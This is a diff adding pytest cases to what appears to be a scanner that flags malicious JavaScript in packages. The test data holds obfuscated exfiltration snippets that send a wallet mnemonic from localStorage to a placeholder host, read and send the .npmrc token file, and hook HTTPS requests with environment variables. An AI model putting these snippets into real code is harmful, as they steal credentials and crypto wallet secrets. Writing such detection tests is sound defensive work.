@@ -221,3 +221,27 @@ def test_jquery_in_a_comment_fetches_nothing() -> None:
     told = "// options: as `jQuery` does it, see https://docs.example/"
 
     assert selects(f"{told}\nconst compiled = Function('a', source); export default compiled;") == [False]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const n = 'node:h' + 'ttps'; const m = require(n); m.request = hook(process.env)",
+        "const k = 'mnem' + 'onic'; fetch('https://a.example', {method: 'POST', body: localStorage[k]})",
+        "const d = require('fs').readFileSync('/.np' + 'mrc'); require('https').request({}).end(d)",
+    ],
+)
+def test_half_may_be_built_and_half_be_there_whoever_compiled_the_conditions(code: str) -> None:
+    taking = Prefilter(RULESET)
+    assert taking.take(PREFILTER.compiled())
+    alone = code.replace("' + '", "' && '")
+    for prefilter in (PREFILTER, taking):
+        assert prefilter.select([("a.js", code.encode())])
+        assert not prefilter.select([("a.js", alone.encode())])
+
+
+@pytest.mark.parametrize("content", [b"", b"\0", b"\xff" * 90, bytes(8)])
+def test_refuses_what_it_did_not_compile(content: bytes) -> None:
+    prefilter = Prefilter(RULESET)
+
+    assert not prefilter.take(content)
